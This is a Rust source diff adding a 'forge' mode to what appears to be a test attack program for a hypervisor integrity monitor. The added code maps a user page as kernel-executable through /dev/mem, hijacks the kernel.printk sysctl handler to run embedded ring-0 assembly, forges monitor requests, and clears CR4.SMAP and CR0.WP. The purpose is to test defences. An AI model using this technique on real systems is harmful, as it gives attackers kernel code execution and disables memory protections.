@@ -26,6 +26,12 @@
 //!   the RTC programmed through its ports), while making system calls; then count what the kernel
 //!   took (/proc/interrupts) and report it on port 0xE9. An NMI the CPU delivered inside the
 //!   monitor's view would end the guest.
+//! - `forge`: run code in ring 0 without writing kernel text: map one of its own pages supervisor-
+//!   executable at an unused kernel address (a new entry in the direct map's page directory pointer
+//!   table, through /dev/mem), point the `kernel.printk` sysctl's handler at it (the table is
+//!   kernel data), and read /proc/sys/kernel/printk. From there it calls the monitor's gate with a
+//!   forged system-call request and a forged exec request, and, each in a child, clears CR4.SMAP
+//!   and CR0.WP.
 //!
 //! Each step is told to L0 on port 0xE9. A blocked write or read stops the guest: it never returns.
 
@@ -67,6 +73,10 @@ fn main() -> ExitCode {
             Err(e) => Err(e),
         },
         Some(LinuxAttack::Nmi) => match nmi() {
+            Ok(()) => return ExitCode::SUCCESS,
+            Err(e) => Err(e),
+        },
+        Some(LinuxAttack::Forge) => match forge(&cmdline) {
             Ok(()) => return ExitCode::SUCCESS,
             Err(e) => Err(e),
         },
@@ -675,4 +685,285 @@ fn nmi() -> Result<(), String> {
     println!("{}{seen}", ihmi_abi::attack::LINUX_NMI_REPORT);
     debug_line(&format!("{}{seen}", ihmi_abi::attack::LINUX_NMI_REPORT))
         .map_err(|e| format!("port 0xE9: {e}"))
+}
+
+// The ring-0 payload, copied into the attacker's page and run there at its kernel alias as a sysctl
+// handler: `int handler(table, write, buffer, lenp, ppos)`. Position-independent; its data block
+// follows it in the same page. The operation is the data block's first word:
+// 1 = call the gate at word 1 with request word 2 and first argument word 3, the verdict into word 4;
+// 2 = clear CR4.SMAP; 3 = clear CR0.WP. It returns 0 with nothing read.
+core::arch::global_asm!(
+    r#"
+    .section .rodata.ihmi_forge, "a"
+    .balign 16
+    .global ihmi_forge_code
+ihmi_forge_code:
+    endbr64
+    push %rbx
+    mov %rcx, %rbx
+    lea ihmi_forge_data(%rip), %rax
+    mov 0(%rax), %rdi
+    cmp $1, %rdi
+    je 1f
+    cmp $2, %rdi
+    je 2f
+    cmp $3, %rdi
+    je 3f
+    jmp 9f
+1:  mov 16(%rax), %rdi
+    mov 24(%rax), %rsi
+    xor %edx, %edx
+    xor %ecx, %ecx
+    xor %r8d, %r8d
+    mov 8(%rax), %rax
+    call *%rax
+    lea ihmi_forge_data(%rip), %rcx
+    mov %rax, 32(%rcx)
+    jmp 9f
+2:  mov %cr4, %rax
+    btr $21, %rax
+    mov %rax, %cr4
+    jmp 9f
+3:  mov %cr0, %rax
+    btr $16, %rax
+    mov %rax, %cr0
+9:  movq $0, (%rbx)
+    xor %eax, %eax
+    pop %rbx
+    ret
+    .balign 64
+ihmi_forge_data:
+    .fill 8, 8, 0
+    .global ihmi_forge_end
+ihmi_forge_end:
+"#,
+    options(att_syntax)
+);
+
+extern "C" {
+    static ihmi_forge_code: u8;
+    static ihmi_forge_end: u8;
+}
+
+/// The payload's bytes, and where its data block starts in them.
+fn forge_payload() -> (&'static [u8], usize) {
+    // Both symbols are in the block above, in this order, in one section.
+    let (start, end) = (
+        core::ptr::addr_of!(ihmi_forge_code),
+        core::ptr::addr_of!(ihmi_forge_end),
+    );
+    let len = end as usize - start as usize;
+    // SAFETY: `len` bytes of read-only data from `start`.
+    (unsafe { std::slice::from_raw_parts(start, len) }, len - 64)
+}
+
+/// Where the attacker's page shows up in the kernel: the direct map's PML4 slot (273, as Linux
+/// without KASLR puts it), its page directory pointer table's entry 510, never used with 256 MiB.
+const FORGE_ALIAS: u64 = 0xffff_8880_0000_0000 + 510 * (1 << 30);
+const DIRECT_MAP_SLOT: u64 = 273;
+/// A page-table entry for a supervisor page (or table): present, writable, accessed (and dirty),
+/// executable.
+const SUPERVISOR_TABLE: u64 = 0x23;
+const SUPERVISOR_PAGE: u64 = 0x63;
+/// `struct ctl_table`: the handler pointer after procname, data, maxlen + mode, child.
+const CTL_TABLE_HANDLER: u64 = 32;
+
+/// A zeroed, locked page of this process, with its frame. Shared, so that a fork leaves it where it
+/// is: a private page would be copied on the next write, away from the frame the kernel maps.
+fn locked_page() -> Result<(*mut u8, u64), String> {
+    // SAFETY: a fresh shared anonymous mapping; nothing else refers to it.
+    let p = unsafe {
+        libc::mmap(
+            std::ptr::null_mut(),
+            PAGE as usize,
+            libc::PROT_READ | libc::PROT_WRITE,
+            libc::MAP_SHARED | libc::MAP_ANONYMOUS | libc::MAP_POPULATE | libc::MAP_LOCKED,
+            -1,
+            0,
+        )
+    };
+    if p == libc::MAP_FAILED {
+        return Err(format!("mmap: {}", io::Error::last_os_error()));
+    }
+    let p = p.cast::<u8>();
+    // SAFETY: the page is this process's, writable.
+    unsafe { p.write_volatile(0) };
+    Ok((p, own_frame(p)?))
+}
+
+/// The ring-0 foothold: the page and its data block, the kernel's PDPT entry it added and the
+/// sysctl handler it replaced, undone by `leave`.
+struct Ring0 {
+    page: *mut u8,
+    data: usize,
+    pdpt_entry: u64,
+    handler_at: u64,
+    handler: u64,
+}
+
+impl Ring0 {
+    fn set(&self, word: usize, value: u64) {
+        // SAFETY: inside this process's page, in the payload's data block.
+        unsafe {
+            self.page
+                .wrapping_add(self.data + 8 * word)
+                .cast::<u64>()
+                .write_volatile(value)
+        };
+    }
+
+    fn get(&self, word: usize) -> u64 {
+        // SAFETY: as above.
+        unsafe {
+            self.page
+                .wrapping_add(self.data + 8 * word)
+                .cast::<u64>()
+                .read_volatile()
+        }
+    }
+
+    /// Runs the payload's operation `op` in ring 0: the kernel calls the handler when the sysctl is
+    /// read.
+    fn run(&self, op: u64) -> Result<(), String> {
+        self.set(0, op);
+        fs::read("/proc/sys/kernel/printk")
+            .map(drop)
+            .map_err(|e| format!("reading /proc/sys/kernel/printk: {e}"))
+    }
+
+    fn leave(&self, mem: &File) -> Result<(), String> {
+        mem.write_all_at(&self.handler.to_le_bytes(), self.handler_at)
+            .and_then(|()| mem.write_all_at(&0u64.to_le_bytes(), self.pdpt_entry))
+            .map_err(|e| format!("undoing the foothold: {e}"))
+    }
+}
+
+fn enter_ring0(k: &Kernel, mem: &File) -> Result<Ring0, String> {
+    let (page, frame) = locked_page()?;
+    let (pd, pd_frame) = locked_page()?;
+    let (pt, pt_frame) = locked_page()?;
+    let (code, data) = forge_payload();
+    // SAFETY: the page is this process's and the payload shorter than it.
+    unsafe { std::ptr::copy_nonoverlapping(code.as_ptr(), page, code.len()) };
+    // SAFETY: the table pages are this process's: their first entries.
+    unsafe { pd.cast::<u64>().write_volatile(pt_frame | SUPERVISOR_TABLE) };
+    // SAFETY: as above.
+    unsafe { pt.cast::<u64>().write_volatile(frame | SUPERVISOR_PAGE) };
+    // The kernel's PML4 (readable: L0 locks it read-only) gives the direct map's PDPT.
+    let mut entry = [0u8; 8];
+    mem.read_exact_at(
+        &mut entry,
+        k.pa(k.symbol("init_top_pgt")?) + DIRECT_MAP_SLOT * 8,
+    )
+    .map_err(|e| format!("reading the PML4: {e}"))?;
+    let pdpt = u64::from_le_bytes(entry) & ADDRESS;
+    let pdpt_entry = pdpt + ((FORGE_ALIAS >> 30) & 511) * 8;
+    mem.read_exact_at(&mut entry, pdpt_entry)
+        .map_err(|e| format!("reading the PDPT: {e}"))?;
+    if u64::from_le_bytes(entry) != 0 {
+        return Err(format!("PDPT entry at {pdpt_entry:#x} is in use"));
+    }
+    // The `kernel.printk` sysctl: its table is kernel data, the first entry's handler proc_dointvec.
+    let handler_at = k.pa(k.symbol("printk_sysctls")?) + CTL_TABLE_HANDLER;
+    let mut handler = [0u8; 8];
+    mem.read_exact_at(&mut handler, handler_at)
+        .map_err(|e| format!("reading the sysctl table: {e}"))?;
+    let handler = u64::from_le_bytes(handler);
+    if handler != k.symbol("proc_dointvec")? {
+        return Err(format!(
+            "the printk sysctl's handler is {handler:#x}, not proc_dointvec"
+        ));
+    }
+    say(&format!(
+        "ihmi-attack: mapping my page {frame:#x} supervisor-executable at {FORGE_ALIAS:#x} (PDPT entry {pdpt_entry:#x}) and pointing kernel.printk's handler ({handler_at:#x}) at it"
+    ));
+    mem.write_all_at(&(pd_frame | SUPERVISOR_TABLE).to_le_bytes(), pdpt_entry)
+        .map_err(|e| format!("writing the PDPT: {e}"))?;
+    mem.write_all_at(&FORGE_ALIAS.to_le_bytes(), handler_at)
+        .map_err(|e| format!("writing the sysctl handler: {e}"))?;
+    Ok(Ring0 {
+        page,
+        data,
+        pdpt_entry,
+        handler_at,
+        handler,
+    })
+}
+
+/// The call gate's address: its code opens the gate page in the monitor's region (endbr64; pushfq;
+/// cli), which view 0 shows read + execute.
+fn call_gate(mem: &File, cmdline: &str) -> Result<u64, String> {
+    let monitor = monitor_address(cmdline)?;
+    let mut gate = vec![0u8; PAGE as usize];
+    mem.read_exact_at(&mut gate, monitor)
+        .map_err(|e| format!("reading the gate page: {e}"))?;
+    let at = gate
+        .windows(6)
+        .position(|w| w == [0xf3, 0x0f, 0x1e, 0xfa, 0x9c, 0xfa])
+        .ok_or("no call gate in the gate page")?;
+    Ok(ihmi_abi::monitor::LINUX_GATE_GVA + at as u64)
+}
+
+/// Runs `op` in a child, which the refusal kills; says how the child ended.
+fn in_child(ring0: &Ring0, op: u64, what: &str) -> Result<(), String> {
+    // SAFETY: the child only runs the payload and exits; this program is single-threaded.
+    let pid = unsafe { libc::fork() };
+    if pid < 0 {
+        return Err(format!("fork: {}", io::Error::last_os_error()));
+    }
+    if pid == 0 {
+        let _ = ring0.run(op);
+        say(&format!("ihmi-attack: {what} was ACCEPTED"));
+        std::process::exit(0);
+    }
+    let mut status = 0;
+    // SAFETY: waits for the child just made.
+    unsafe { libc::waitpid(pid, &mut status, 0) };
+    if libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0 {
+        return Err(format!("{what} went through"));
+    }
+    say(&format!(
+        "ihmi-attack: {what} was refused: the kernel killed the writer (status {status:#x})"
+    ));
+    Ok(())
+}
+
+fn forge(cmdline: &str) -> Result<(), String> {
+    use ihmi_abi::monitor::{RequestCode, Verdict};
+    let k = Kernel::learn()?;
+    let mem = open_mem()?;
+    let gate = call_gate(&mem, cmdline)?;
+    let ring0 = enter_ring0(&k, &mem)?;
+    ring0.set(1, gate);
+    // A system call the process never made, and an exec of a program that does not exist (the
+    // binprm is the payload's own data block, at its kernel alias).
+    let forged = [
+        (
+            RequestCode::Syscall,
+            ihmi_abi::attack::LINUX_FORGED_SYSCALL_NR,
+        ),
+        (RequestCode::Exec, FORGE_ALIAS + ring0.data as u64),
+    ];
+    for (request, arg) in forged {
+        ring0.set(2, request as u64);
+        ring0.set(3, arg);
+        ring0.set(4, u64::MAX);
+        ring0.run(1)?;
+        let verdict = Verdict::from_raw(ring0.get(4));
+        say(&format!(
+            "ihmi-attack: ring 0 called the gate at {gate:#x} with a forged {request:?} request: verdict {verdict:?}"
+        ));
+        if verdict != Some(Verdict::Rejected) {
+            ring0.leave(&mem)?;
+            return Err(format!("the forged {request:?} request was not rejected"));
+        }
+    }
+    let pins = [(2, "clearing CR4.SMAP"), (3, "clearing CR0.WP")];
+    let result = pins
+        .into_iter()
+        .try_for_each(|(op, what)| in_child(&ring0, op, what));
+    ring0.leave(&mem)?;
+    result?;
+    say("ihmi-attack: ring-0 code ran, but the monitor rejected both forgeries and L0 kept the pins");
+    Ok(())
 }
